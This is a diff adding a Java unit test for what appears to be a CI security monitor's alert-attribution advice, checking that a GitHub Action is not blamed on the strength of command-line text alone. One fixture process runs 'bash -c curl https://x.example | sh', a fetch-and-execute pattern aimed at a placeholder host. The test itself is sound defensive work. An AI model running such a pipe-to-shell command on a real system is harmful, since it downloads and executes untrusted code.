@@ -123,6 +123,33 @@ final class AdviceTest {
                                 + " that you have read.");
     }
 
+    /** What a process says of itself, or was told as a text, is no evidence against the action. */
+    @Test
+    void anActionIsNotBlamedForWhatACommandLineSays() {
+        String own = "/w/_actions/tj-actions/changed-files/v45/dist/index.js";
+        for (String command : List.of(
+                "python3 -c x " + own,
+                "cat x " + own,
+                "node /tmp/y" + own,
+                "perl -e x " + own)) {
+            alerts.clear();
+            rules.clear();
+            String program = command.substring(0, command.indexOf(' '));
+            alert(Priority.ERROR, "One", process(-1, program, command, 1, -1));
+            assertThat(advice())
+                    .as(command)
+                    .singleElement()
+                    .asString()
+                    .startsWith("Look at what " + program + " did in Changed files");
+        }
+        alerts.clear();
+        rules.clear();
+        int node = process(-1, "node", "node " + own, 1, -1);
+        int shell = process(node, "bash", "bash -c curl https://x.example | sh", 1, -1);
+        alert(Priority.ERROR, "One", process(shell, "cat", "cat x", 1, -1));
+        assertThat(advice()).singleElement().asString().startsWith("Look at what cat did in Changed files");
+    }
+
     @Test
     void aWarningAsksToLook() {
         int git = process(-1, "git", "/tmp/demo/bin/git clone", 0, -1);
